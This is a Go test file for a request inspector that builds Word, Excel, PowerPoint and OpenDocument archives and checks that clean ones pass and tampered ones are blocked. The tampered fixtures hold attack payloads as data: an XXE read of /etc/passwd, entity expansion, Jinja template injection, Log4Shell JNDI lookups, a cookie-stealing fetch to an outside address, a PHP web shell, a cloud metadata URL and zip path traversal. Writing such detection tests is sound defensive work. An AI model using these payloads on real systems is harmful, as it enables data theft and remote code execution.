package inspect

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"io"
	"maps"
	"slices"
	"strings"
	"testing"

	"weir/inspect/source"
)

const xmlHead = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\r\n"

// packageOf is an archive of parts, by name.
func packageOf(t *testing.T, parts map[string]string) string {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, name := range slices.Sorted(maps.Keys(parts)) {
		w, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(parts[name])); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// with is parts with some more, or others.
func with(parts map[string]string, more ...string) map[string]string {
	parts = maps.Clone(parts)
	for i := 0; i < len(more); i += 2 {
		parts[more[i]] = more[i+1]
	}
	return parts
}

const relations = `xmlns="http://schemas.openxmlformats.org/package/2006/relationships"`

// prose is what people write about their work.
var prose = []string{
	"Time to find a new supplier; mail the list to accounts & wait.",
	"Please select the items from the list (max 2 MB), where the total is 5 or more.",
	"Don't forget: the server's settings are in /etc/hosts, and ../shared/notes has the rest.",
	"Operating system (Linux), update &amp; restart; cat the log | head.",
}

// document is a document of a word processor.
func document() map[string]string {
	var body strings.Builder
	for _, text := range prose {
		body.WriteString(`<w:p w:rsidR="00A1"><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t xml:space="preserve">` + text + `</w:t></w:r></w:p>`)
	}
	const main = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	return map[string]string{
		"[Content_Types].xml": xmlHead + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ` +
			`ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
			`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
		"_rels/.rels": xmlHead + `<Relationships ` + relations + `><Relationship Id="rId1" ` +
			`Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
		"word/_rels/document.xml.rels": xmlHead + `<Relationships ` + relations + `><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/` +
			`2006/relationships/customXml" Target="../customXml/item1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/` +
			`relationships/hyperlink" Target="https://www.example.com/?id=1&amp;select=all" TargetMode="External"/></Relationships>`,
		"word/document.xml": xmlHead + `<w:document ` + main + `><w:body>` + body.String() + `</w:body></w:document>`,
		"word/styles.xml": xmlHead + `<w:styles ` + main + `><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Calibri" w:eastAsia="Calibri"/>` +
			`</w:rPr></w:rPrDefault></w:docDefaults><w:latentStyles w:count="376"><w:lsdException w:name="index 1" w:unhideWhenUsed="1"/>` +
			`<w:lsdException w:name="Table Web 1"/></w:latentStyles><w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style></w:styles>`,
		"word/settings.xml": xmlHead + `<w:settings ` + main + `><w:zoom w:percent="100"/><w:mailMerge/><w:compat><w:compatSetting w:name="compatibilityMode" ` +
			`w:uri="http://schemas.microsoft.com/office/word" w:val="15"/></w:compat><w:decimalSymbol w:val="."/><w:listSeparator w:val=";"/></w:settings>`,
		"docProps/core.xml": xmlHead + `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" ` +
			`xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>It's a report</dc:title><dc:creator>Pat O'Neill</dc:creator></cp:coreProperties>`,
		"docProps/app.xml": xmlHead + `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Template>Normal.dotm</Template>` +
			`<Application>Microsoft Office Word</Application></Properties>`,
		"customXml/item1.xml": `<b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography" SelectedStyle="\APA.XSL"/>`,
		"word/media/image1.png": "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\b\x06\x00\x00\x00\x1f\x15\xc4\x89" +
			"\x00\x00\x00\nIDAT\x78\x9c\x63\x00\x01\x00\x00\x05\x00\x01\r\n\x2d\xb4\x00\x00\x00\x00IEND\xaeB`\x82",
	}
}

// workbook is a workbook of a spreadsheet.
func workbook() map[string]string {
	var strs strings.Builder
	for _, text := range prose {
		strs.WriteString(`<si><t>` + text + `</t></si>`)
	}
	const main = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`
	return map[string]string{
		"[Content_Types].xml":  document()["[Content_Types].xml"],
		"xl/workbook.xml":      xmlHead + `<workbook ` + main + `><sheets><sheet name="Select" sheetId="1"/></sheets><definedNames><definedName name="a">'Sheet 1'!$A$1:$B$9</definedName></definedNames></workbook>`,
		"xl/sharedStrings.xml": xmlHead + `<sst ` + main + ` count="4">` + strs.String() + `</sst>`,
		"xl/worksheets/sheet1.xml": xmlHead + `<worksheet ` + main + `><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><f>IF(A1&gt;3,"a"&amp;B2,SUM(C1:C9)) or 1=1</f></c></row>` +
			`</sheetData><dataValidations count="1"><dataValidation type="list"><formula1>"yes,no"</formula1></dataValidation></dataValidations></worksheet>`,
		"xl/styles.xml": xmlHead + `<styleSheet ` + main + `><numFmts count="1"><numFmt numFmtId="164" formatCode="_(&quot;$&quot;* #,##0.00_);_(&quot;$&quot;* \(#,##0.00\);_(@_)"/></numFmts></styleSheet>`,
	}
}

// slides are the slides of a talk.
func slides() map[string]string {
	const main = `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"`
	return map[string]string{
		"[Content_Types].xml":              document()["[Content_Types].xml"],
		"ppt/slides/slide1.xml":            xmlHead + `<p:sld ` + main + `><p:cSld><p:spTree><p:sp><p:txBody><a:bodyPr/><a:p><a:r><a:t>` + prose[1] + `</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>`,
		"ppt/slides/_rels/slide1.xml.rels": xmlHead + `<Relationships ` + relations + `><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/slideLayout" Target="../slideLayouts/slideLayout1.xml"/></Relationships>`,
		"ppt/presentation.xml":             xmlHead + `<p:presentation ` + main + ` saveSubsetFonts="1" autoCompressPictures="0"/>`,
	}
}

// openDocument is a document of OpenDocument: its first entry, which is stored, says what it is.
func openDocument(t *testing.T, content string) string {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, err := z.CreateHeader(&zip.FileHeader{Name: "mimetype", Method: zip.Store})
	if err != nil {
		t.Fatal(err)
	}
	if _, err = io.WriteString(w, "application/vnd.oasis.opendocument.text"); err != nil {
		t.Fatal(err)
	}
	if w, err = z.Create("content.xml"); err != nil {
		t.Fatal(err)
	}
	if _, err = io.WriteString(w, content); err != nil {
		t.Fatal(err)
	}
	if err = z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// writing is the content of a document of OpenDocument.
func writing(text string) string {
	return `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ` +
		`xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><text:p>` + text +
		`</text:p><text:a xlink:href="https://www.example.com/a;b">x</text:a></office:body></office:document-content>`
}

// carriers are events that carry a file, as clients send them.
func carriers(file string) map[string]string {
	encoded := base64.StdEncoding.EncodeToString([]byte(file))
	form := part("; filename=\"report.bin\"\r\nContent-Type: application/octet-stream", file)
	return map[string]string{
		"multipart":     functionURL("/", "", "multipart/form-data; boundary=frontier", base64.StdEncoding.EncodeToString([]byte(form)), true),
		"a body":        functionURL("/", "", "application/octet-stream", encoded, true),
		"a JSON string": functionURL("/", "", "application/json", `{"name":"a file","content":"`+encoded+`"}`, false),
		"a message":     queue(encoded),
		"a record":      kinesisOf(file),
	}
}

// judgeFiles asserts what becomes of files, wherever they stand.
func judgeFiles(t *testing.T, files map[string]string, want Action, in func(string) map[string]string) {
	t.Helper()
	i := inspectorFor(t, patient())
	for name, file := range files {
		for place, event := range in(file) {
			if v, _ := i.Inspect(context.Background(), source.Invocation{Payload: []byte(event)}); v.Action != want {
				t.Errorf("%s in %s: %s by %v, incomplete %v", name, place, v.Action, ids(v), v.Incomplete)
			}
		}
	}
}

func TestOfficeDocumentsPass(t *testing.T) {
	judgeFiles(t, map[string]string{
		"a document":               packageOf(t, document()),
		"a workbook":               packageOf(t, workbook()),
		"slides":                   packageOf(t, slides()),
		"a workbook in a document": packageOf(t, with(document(), "word/embeddings/sheet1.xlsx", packageOf(t, workbook()))),
		"an OpenDocument text":     openDocument(t, writing(prose[0])),
		"a template":               packageOf(t, with(document(), "word/header1.xml", `<w:hdr><w:p><w:t>Dear {{name}}, ${date}</w:t></w:p></w:hdr>`)),
	}, Pass, carriers)
}

func TestWhatOfficeDocumentsCarryIsFound(t *testing.T) {
	const entity = `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document><w:body>&x;</w:body></w:document>`
	judgeFiles(t, map[string]string{
		"an external entity":        packageOf(t, with(document(), "word/document.xml", entity)),
		"an entity in a workbook":   packageOf(t, with(workbook(), "xl/sharedStrings.xml", strings.Replace(entity, "w:document", "sst", 2))),
		"an entity in UTF-16":       packageOf(t, with(document(), "word/document.xml", "\xff\xfe"+wideOf(entity, 2, binary.LittleEndian))),
		"entities of entities":      packageOf(t, with(document(), "word/document.xml", `<!DOCTYPE d [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;&a;">]><d>&b;</d>`)),
		"an expression of Jinja":    packageOf(t, with(document(), "word/header1.xml", `<w:hdr><w:t>{{ ''.__class__.__mro__[1].__subclasses__() }}</w:t></w:hdr>`)),
		"a trial of a template":     packageOf(t, with(document(), "word/header1.xml", `<w:hdr><w:t>{{7*7}}</w:t></w:hdr>`)),
		"Log4Shell":                 packageOf(t, with(document(), "docProps/core.xml", `<c><title>${jndi:ldap://203.0.113.9/a}</title></c>`)),
		"Log4Shell in references":   packageOf(t, with(document(), "docProps/core.xml", `<c><title>&#36;&#x7b;jndi:ldap://203.0.113.9/a}</title></c>`)),
		"a script":                  packageOf(t, with(document(), "word/document.xml", `<w:document><script>fetch('//203.0.113.9/'+document.cookie)</script></w:document>`)),
		"a link that is a script":   packageOf(t, with(document(), "word/_rels/document.xml.rels", `<Relationships><Relationship Target="javascript:alert(document.cookie)"/></Relationships>`)),
		"an address of metadata":    packageOf(t, with(document(), "word/_rels/document.xml.rels", `<Relationships><Relationship Target="http://169.254.169.254/latest/meta-data/" TargetMode="External"/></Relationships>`)),
		"PHP":                       packageOf(t, with(document(), "word/document.xml", `<w:document><?php system($_GET['c']); ?></w:document>`)),
		"a name that climbs":        packageOf(t, with(document(), "../../../tmp/x.sh", "echo")),
		"a name that climbs, DOS":   packageOf(t, with(document(), `..\..\..\x.dll`, "echo")),
		"an attack beside the rest": packageOf(t, with(document(), "query.json", `{"q":"`+injection+`"}`)),
		"a page in an old form":     packageOf(t, with(document(), "word/a.json", `{"q":"`+injection+`"}`)),
		"Jinja in OpenDocument":     openDocument(t, writing("{{config.__class__.__init__.__globals__}}")),
		"PHP behind the end":        packageOf(t, document()) + `<?php system($_GET['c']); ?>`,
		"SQL behind the end":        packageOf(t, document()) + injection,
		"a stored picture with PHP": packageOf(t, with(document(), "word/media/image2.png", document()["word/media/image1.png"]+`<?php system($_GET['c']); ?>`)),
	}, Block, carriers)
}

// Only a package is read as one: elsewhere, XML is judged by every rule.
func TestXMLOutsideOfOfficeDocumentsIsJudgedByAllRules(t *testing.T) {
	attack := `<?xml version="1.0"?><q>` + injection + `</q>`
	parts := document()
	delete(parts, "[Content_Types].xml")
	judgeFiles(t, map[string]string{
		"no package":         packageOf(t, with(parts, "word/document.xml", attack)),
		"a part elsewhere":   packageOf(t, with(document(), "data/document.xml", attack)),
		"no part of markup":  packageOf(t, with(document(), "word/document.txt", attack)),
		"markup in no place": packageOf(t, with(document(), "document.xml", attack)),
	}, Block, carriers)
}
